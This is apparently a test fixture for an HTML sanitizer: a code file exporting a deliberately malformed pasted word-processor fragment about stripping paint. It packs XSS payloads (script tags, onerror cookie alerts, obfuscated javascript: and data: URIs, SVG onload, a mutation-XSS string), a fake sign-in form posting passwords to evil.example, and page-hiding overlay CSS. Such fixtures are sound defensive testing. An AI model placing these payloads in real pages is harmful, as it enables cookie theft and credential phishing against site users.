/**
 * What a word processor, a careless paste and a bad neighbour leave in a text. It is meant to break out of a page that
 * trusts it; nothing here is well formed on purpose.
 */
export const PASTED = `<!--StartFragment--><style>body{display:none !important} .MsoNormal{margin:0cm;font-size:11.0pt}</style>
<p class="MsoNormal" style="margin:0cm;position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red"><span lang="EN-GB" style="font-family:&quot;Comic Sans MS&quot;;font-size:48.0pt;color:#fefefe">How I strip eleven layers of paint<o:p></o:p></span></p>
<p class="MsoNormal">First the heat gun on <b style="mso-bidi-font-weight:normal">low</b>, then the scraper.&nbsp;&nbsp;&nbsp;&nbsp;Never the other way<script>alert(1)</script> round.</p>
<p>My pictures did not come through: <img src="x" onerror="alert(document.cookie)" alt="a scraped plank"> <img src="javascript:alert(2)" alt=""> <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="another plank"></p>
<p><a href="javascript:alert('bilge')">My notes</a>, <a href="  JaVa&#10;ScRiPt:alert(3)">more notes</a>, <a href="data:text/html,<script>alert(4)</script>">and these</a>, <a href="https://paint.example/layers" onclick="steal()" target="_blank" style="color:expression(alert(5))">and an honest one</a>.</p>
<form action="https://evil.example/collect" method="post"><input name="password" placeholder="Please sign in again" autofocus onfocus="alert(6)"><button>Continue</button></form>
<iframe src="https://evil.example/frame" srcdoc="<script>alert(7)</script>"></iframe><object data="https://evil.example/x.swf"></object><svg onload="alert(8)"><a xlink:href="javascript:alert(9)"><text>tap</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(10)&gt;"></mglyph></table></mtext></math>
<ul><li>Mask<li>Gloves<li>Patience</ul><p>The <i>primer</b> goes on the same day, <u>before</i> the dew.</u> {{asset:999999}} {{member:999999}} {{unknown:1}}
<blockquote><p>Written with 11 pt and good intentions.</blockquote></div></div><!--EndFragment-->`;
